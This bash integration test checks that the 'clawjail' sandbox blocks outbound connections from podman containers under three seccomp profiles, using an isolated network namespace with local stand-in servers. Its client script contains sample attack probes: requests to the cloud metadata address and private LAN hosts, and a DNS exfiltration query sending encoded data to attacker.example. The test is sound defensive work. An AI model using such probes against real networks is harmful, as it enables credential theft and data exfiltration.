#!/usr/bin/env bash
# test-containers-egress.sh: [egress] inside a real OCI runtime (rootful podman + runc,
# --rootfs /:O as scripts/test-containers.sh), with compose.yaml's container options, root
# (compose's cap_add) and --user 10001:10001, under three seccomp profiles:
#   - podman's default (/usr/share/containers/seccomp.json: allows unshare): works;
#   - moby's default (Docker/containerd/Kubernetes RuntimeDefault; Debian's
#     golang-github-docker-docker-dev): clawjail refuses, exit 125, naming
#     examples/docker/seccomp-clawjail.json; CONTROL: the same policy without [egress] runs;
#   - the shipped examples/docker/seccomp-clawjail.json: works.
# "Works" means: from inside the container, a forbidden destination is refused under
# clawjail and its stand-in logs zero connections, while the CONTROL (the same client in the
# same container, no clawjail) reaches every stand-in; the allowed name reaches its TLS
# upstream (certificate verified) through the broker.
#
#   sudo bash scripts/test-containers-egress.sh [CLAWJAIL_BIN]   (default: target/debug/clawjail)
#
# NETWORK SAFETY: the containers never use podman's bridge network. They run in a network
# namespace this script makes (ip netns add cj-egress-<pid>) with no route anywhere: only
# lo, holding the stand-in addresses (/32 and /128, so every one is local to it):
#   93.184.216.34:443  TLS upstream for api.example.com (stands for a public host)
#   169.254.169.254:443/80, 10.0.0.1:443, 192.168.1.1:443, [fd00::1]:443, 1.1.1.1:443 (an
#   IP literal), 8.8.4.4:443 (what evil.example.com resolves to), 127.0.0.1:443 (loopback)
#   192.0.2.53:53      the resolver (the container's /etc/resolv.conf, bind-mounted)
# The servers are python3 (stdlib) in that namespace; the certificate is openssl's.
#
# Skips (exit 0, "skipped: ...") when not root or podman/runc/moby's profile are missing,
# except in CI (CI=true, as root) or with CLAWJAIL_REQUIRE_CONTAINERS=1, where that fails.
set -euo pipefail

here="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
repo="$(dirname "$here")"
bin="${1:-$repo/target/debug/clawjail}"
moby="${MOBY_SECCOMP:-/usr/share/gocode/src/github.com/docker/docker/profiles/seccomp/default.json}"
shipped="$repo/examples/docker/seccomp-clawjail.json"
RUN_TIMEOUT=90

# shellcheck source=scripts/lib-podman.sh
. "$(dirname "${BASH_SOURCE[0]}")/lib-podman.sh"
podman_test_start test-containers-egress CLAWJAIL_REQUIRE_CONTAINERS
for t in ip openssl curl python3; do command -v "$t" >/dev/null || skip "no $t"; done
/usr/bin/python3 -c 'import yaml' 2>/dev/null || skip "no python3-yaml (apt-get install python3-yaml)"
[ -f "$moby" ] || skip "no moby default profile at $moby (apt-get install golang-github-docker-docker-dev)"
[ -x "$bin" ] || { say "FAIL: no clawjail binary at $bin (cargo build)"; exit 1; }
bin="$(cd "$(dirname "$bin")" && pwd)/$(basename "$bin")"

ns="cj-egress-$$"
tag="$$-$(od -An -tx1 -N3 /dev/urandom | tr -d ' \n')"
work="$(mktemp -d "/var/tmp/clawjail-ct-egress-$tag.XXXXXX")"
netpid=
cleanup() {
    local rc=$?
    trap - EXIT
    [ -z "$netpid" ] || kill "$netpid" 2>/dev/null || true
    ip netns del "$ns" 2>/dev/null || true
    [ "$rc" = 0 ] || { say "--- the test internet's log"; sed 's/^/    /' "$work/net.log" 2>/dev/null | tail -40 || true; }
    rm -rf -- "$work"
    [ "$rc" = 0 ] || say "FAIL (exit $rc)"
    exit "$rc"
}
trap cleanup EXIT
trap 'say "failed at line $LINENO: $BASH_COMMAND"' ERR
fail() { say "FAIL: $*"; exit 1; }
now() { date +%s.%N; }
since() { awk -v a="$1" -v b="$(now)" 'BEGIN { printf "%.1f", b - a }'; }
t0=$(now)

# --- the test internet ---------------------------------------------------------------------
ip netns add "$ns"
ip -n "$ns" link set lo up
# On lo: this kernel has neither the dummy nor the veth driver, and a /32 on lo is as local.
for a in 93.184.216.34 169.254.169.254 10.0.0.1 192.168.1.1 1.1.1.1 8.8.4.4 192.0.2.53; do
    ip -n "$ns" addr add "$a/32" dev lo
done
ip -n "$ns" -6 addr add fd00::1/128 dev lo nodad
# No default route: an address not listed above is unreachable from this namespace.
[ -z "$(ip -n "$ns" route show default)" ] || fail "$ns has a default route"

install -d -m 0755 "$work/t"
openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj /CN=api.example.com \
    -addext subjectAltName=DNS:api.example.com -keyout "$work/key.pem" -out "$work/t/cert.pem" 2>/dev/null
chmod 0644 "$work/t/cert.pem"
printf 'nameserver 192.0.2.53\noptions timeout:1 attempts:2\n' >"$work/t/resolv.conf"

cat >"$work/net.py" <<'PY'
# The test internet: stand-ins that log every connection, the TLS upstream, the resolver.
import socket, ssl, struct, sys, threading
work = sys.argv[1]
log_lock = threading.Lock()
def log(line):
    with log_lock, open(f"{work}/net.log", "a") as f:
        f.write(line + "\n")
def serve(label, fam, addr, wrap=None):
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(addr); s.listen(64)
    def loop():
        while True:
            c, peer = s.accept()
            log(f"hit {label} from {peer[0]}")
            try:
                if wrap:
                    c = wrap.wrap_socket(c, server_side=True)
                c.settimeout(3)
                c.recv(1024)
                c.sendall(b"HTTP/1.0 200 ok\r\nContent-Length: 8\r\n\r\nstandin\n")
            except Exception as e:
                log(f"error {label} {type(e).__name__}")
            finally:
                c.close()
    threading.Thread(target=loop, daemon=True).start()
ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
ctx.load_cert_chain(f"{work}/t/cert.pem", f"{work}/key.pem")
serve("upstream", socket.AF_INET, ("93.184.216.34", 443), ctx)
for label, fam, addr in [("meta443", socket.AF_INET, ("169.254.169.254", 443)),
                         ("meta80", socket.AF_INET, ("169.254.169.254", 80)),
                         ("ten", socket.AF_INET, ("10.0.0.1", 443)),
                         ("lan", socket.AF_INET, ("192.168.1.1", 443)),
                         ("ula", socket.AF_INET6, ("fd00::1", 443)),
                         ("literal", socket.AF_INET, ("1.1.1.1", 443)),
                         ("name", socket.AF_INET, ("8.8.4.4", 443)),
                         ("loopback", socket.AF_INET, ("127.0.0.1", 443))]:
    serve(label, fam, addr)
names = {"api.example.com": "93.184.216.34", "evil.example.com": "8.8.4.4"}
dns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
dns.bind(("192.0.2.53", 53))
def resolver():
    while True:
        q, peer = dns.recvfrom(1500)
        try:
            i, labels = 12, []
            while q[i]:
                labels.append(q[i + 1:i + 1 + q[i]].decode("ascii", "replace")); i += 1 + q[i]
            qtype = struct.unpack(">H", q[i + 1:i + 3])[0]
            name = ".".join(labels).lower()
            log(f"query {name} type {qtype}")
            question = q[12:i + 5]
            ip = names.get(name)
            if ip and qtype == 1:
                ans = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 60, 4) + socket.inet_aton(ip)
                hdr = struct.pack(">HHHHHH", struct.unpack(">H", q[:2])[0], 0x8180, 1, 1, 0, 0)
                dns.sendto(hdr + question + ans, peer)
            else:
                rcode = 0 if ip else 3
                hdr = struct.pack(">HHHHHH", struct.unpack(">H", q[:2])[0], 0x8180 | rcode, 1, 0, 0, 0)
                dns.sendto(hdr + question, peer)
        except Exception as e:
            log(f"query unparsed {type(e).__name__}")
threading.Thread(target=resolver, daemon=True).start()
open(f"{work}/net.ready", "w").close()
threading.Event().wait()
PY
: >"$work/net.log"
ip netns exec "$ns" /usr/bin/python3 "$work/net.py" "$work" &
netpid=$!
for _ in $(seq 100); do [ -e "$work/net.ready" ] && break; sleep 0.05; done
[ -e "$work/net.ready" ] || fail "the test internet did not start"

# --- the client (one script, run bare as the CONTROL and under clawjail) ----------------------
cat >"$work/t/client.py" <<'PY'
import socket, ssl, struct, sys
def tcp(label, host, port):
    try:
        s = socket.create_connection((host, port), timeout=3)
        s.sendall(b"GET /latest/meta-data/ HTTP/1.0\r\n\r\n")
        d = s.recv(100)
        s.close()
        print("py", label, "reached" if b"standin" in d else f"refused got {len(d)} bytes", flush=True)
    except Exception as e:
        print("py", label, "refused", type(e).__name__, flush=True)
for label, host, port in [("meta443", "169.254.169.254", 443), ("meta80", "169.254.169.254", 80),
                          ("ten", "10.0.0.1", 443), ("lan", "192.168.1.1", 443), ("ula", "fd00::1", 443),
                          ("literal", "1.1.1.1", 443), ("name", "evil.example.com", 443),
                          ("loopback", "127.0.0.1", 443)]:
    tcp(label, host, port)
# DNS exfiltration: a query carrying data, sent straight to a resolver's address.
q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
q += b"".join(bytes([len(p)]) + p.encode() for p in "exfil-c2VjcmV0.attacker.example".split(".")) + b"\0"
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(1)
u.sendto(q + struct.pack(">HH", 1, 1), ("192.0.2.53", 53))
try:
    r = u.recv(512)
    print("py udp53 rcode", r[3] & 15, flush=True)
except Exception as e:
    print("py udp53 error", type(e).__name__, flush=True)
try:
    ctx = ssl.create_default_context(cafile=sys.argv[1])
    with socket.create_connection(("api.example.com", 443), timeout=5) as s:
        with ctx.wrap_socket(s, server_hostname="api.example.com") as t:
            t.sendall(b"GET / HTTP/1.0\r\nHost: api.example.com\r\n\r\n")
            print("py allowed", t.recv(64).split(b"\r\n")[0].decode(), flush=True)
except Exception as e:
    print("py allowed error", type(e).__name__, e, flush=True)
PY
cat >"$work/t/client.sh" <<'SH'
echo "uid $(id -u)"
/usr/bin/python3 /t/client.py /t/cert.pem
echo "curl allowed $(curl -s -m 5 --cacert /t/cert.pem -o /dev/null -w '%{http_code}' https://api.example.com/)"
echo "curl meta443 $(curl -sk -m 3 https://169.254.169.254/latest/meta-data/ || echo "refused exit $?")"
SH
# The jailed policy: the target runs as 10001 (the Dockerfile's openclaw) either way.
cat >"$work/t/base.toml" <<'TOML'
version = 1
[identity]
user = 10001
group = 10001
[filesystem]
exec = ["/usr/bin", "/bin", "/usr/lib", "/lib"]
read = ["/etc", "/usr", "/lib", "/dev/urandom", "/t"]
write = ["/dev/null"]
[network]
connect = [443, 80]
[env]
set = { PATH = "/usr/bin:/bin" }
TOML
{ cat "$work/t/base.toml"; printf '[egress]\ndomains = ["api.example.com"]\nports = [443]\n'; } >"$work/t/egress.toml"
chmod -R a+rX "$work/t"
forbidden=(meta443 meta80 ten lan ula literal name loopback)

# --- containers ----------------------------------------------------------------------------
# compose.yaml's options (scripts/compose-podman.py) minus its seccomp option: each run says
# which profile it uses.
nofile="$(ulimit -Hn)"
nproc="$(ulimit -Hu)"
if [ "$nproc" = unlimited ] || [ "$nproc" -gt 8192 ]; then nproc=8192; fi
opts_of() {   # variant profile
    local v="$1" p="$2"
    printf '%s\n' --runtime "$runc" run --rm \
        --ulimit "nofile=$nofile:$nofile" --ulimit "nproc=$nproc:$nproc" \
        --network "ns:/run/netns/$ns" \
        -v "$bin:/usr/local/bin/clawjail:ro" -v "$work/t:/t:ro" \
        -v "$work/t/resolv.conf:/etc/resolv.conf:ro"
    /usr/bin/python3 "$here/compose-podman.py" "$repo/examples/docker/compose.yaml" "$v" | grep -v -- '^--security-opt=seccomp='
    case "$p" in
        podman) ;;
        moby) echo "--security-opt=seccomp=$moby" ;;
        shipped) echo "--security-opt=seccomp=$shipped" ;;
    esac
}
# Run the client in a fresh container: bare (control) or under clawjail with POLICY.
run_ct() {   # variant profile control|POLICY  -> $work/out, $work/err, $rc; net log of the run in $work/hits
    local v="$1" p="$2" what="$3" opts
    mapfile -t opts < <(opts_of "$v" "$p")
    : >"$work/net.log"
    local t; t=$(now)
    rc=0
    if [ "$what" = control ]; then
        timeout "$RUN_TIMEOUT" podman "${opts[@]}" --rootfs /:O /bin/sh /t/client.sh >"$work/out" 2>"$work/err" || rc=$?
    else
        timeout "$RUN_TIMEOUT" podman "${opts[@]}" --rootfs /:O /usr/local/bin/clawjail run --policy "/t/$what" -- \
            /bin/sh /t/client.sh >"$work/out" 2>"$work/err" || rc=$?
    fi
    sleep 0.2
    cp "$work/net.log" "$work/hits"
    took="$(since "$t")"
}
hits() { grep -c "^hit $1 " "$work/hits" || true; }
show() { sed 's/^/    /' "$work/out"; grep -v "clawjail launch" "$work/err" | tail -n 20 | sed 's/^/    err: /'; }

control() {   # variant profile
    local v="$1" p="$2" l
    run_ct "$v" "$p" control
    [ "$rc" = 0 ] || { show; fail "$v/$p control: exit $rc"; }
    for l in "${forbidden[@]}"; do
        grep -qx "py $l reached" "$work/out" && [ "$(hits "$l")" -gt 0 ] \
            || { show; fail "$v/$p control: $l not reached without clawjail"; }
    done
    grep -q "^query exfil-c2vjcmv0.attacker.example" "$work/hits" || { show; fail "$v/$p control: the exfil query did not reach the resolver"; }
    grep -qx "py allowed HTTP/1.0 200 ok" "$work/out" || { show; fail "$v/$p control: the upstream not reached"; }
    say "$v/$p: CONTROL (no clawjail, same container options): every stand-in reached (${forbidden[*]}), the exfil query reached the resolver (${took}s)"
}

jailed_works() {   # variant profile
    local v="$1" p="$2" l n
    run_ct "$v" "$p" egress.toml
    [ "$rc" = 0 ] || { show; fail "$v/$p: clawjail exit $rc"; }
    for l in "${forbidden[@]}"; do
        grep -q "^py $l refused" "$work/out" || { show; fail "$v/$p: $l not refused under clawjail"; }
        n="$(hits "$l")"
        [ "$n" = 0 ] || { show; fail "$v/$p: stand-in $l logged $n connection(s) under clawjail"; }
    done
    grep -q "^query .*\(attacker\|evil\)" "$work/hits" && { show; fail "$v/$p: a refused name reached the resolver"; }
    grep -q "^curl meta443 refused" "$work/out" || { show; fail "$v/$p: curl reached the metadata stand-in"; }
    grep -qx "py allowed HTTP/1.0 200 ok" "$work/out" || { show; fail "$v/$p: the allowed name did not reach its upstream (python)"; }
    grep -qx "curl allowed 200" "$work/out" || { show; fail "$v/$p: the allowed name did not reach its upstream (curl)"; }
    [ "$(hits upstream)" -ge 2 ] || { show; fail "$v/$p: the upstream logged $(hits upstream) connections, want 2"; }
    grep -qx "uid 10001" "$work/out" || { show; fail "$v/$p: the target is not uid 10001"; }
    grep -q 'event="egress-connect" verdict="refused"' "$work/err" || { show; fail "$v/$p: no refusal in the decision log"; }
    grep -q 'verdict="allowed" name="api.example.com"' "$work/err" || { show; fail "$v/$p: no allowed decision logged"; }
    say "$v/$p: under clawjail: ${forbidden[*]}, the exfil query and curl to metadata refused, zero connections at the stand-ins; api.example.com reached (python + curl, certificate verified) (${took}s)"
}

moby_refuses() {   # variant
    local v="$1"
    run_ct "$v" moby egress.toml
    [ "$rc" = 125 ] || { show; fail "$v/moby: clawjail exit $rc, want 125"; }
    grep -q 'examples/docker/seccomp-clawjail.json' "$work/err" || { show; fail "$v/moby: the refusal does not name examples/docker/seccomp-clawjail.json"; }
    [ ! -s "$work/out" ] || { show; fail "$v/moby: the target ran"; }
    say "$v/moby: refused, exit 125: $(grep -o 'cannot be made here: [^;]*' "$work/err" | head -1); the message names examples/docker/seccomp-clawjail.json (${took}s)"
    # CONTROL: the same container and profile run clawjail without [egress].
    run_ct "$v" moby base.toml
    [ "$rc" = 0 ] || { show; fail "$v/moby control: clawjail without [egress] exit $rc"; }
    grep -qx "py meta443 reached" "$work/out" || { show; fail "$v/moby control: metadata not reached"; }
    say "$v/moby: CONTROL: the same policy without [egress] runs under moby's profile (exit 0, no destination control) (${took}s)"
}

for v in root user; do
    control "$v" podman
    jailed_works "$v" podman
    moby_refuses "$v"
    control "$v" shipped
    jailed_works "$v" shipped
done
say "timings: whole test $(since "$t0")s (load average $(cut -d' ' -f1-3 /proc/loadavg) on $(nproc) CPUs)"
say "PASS"
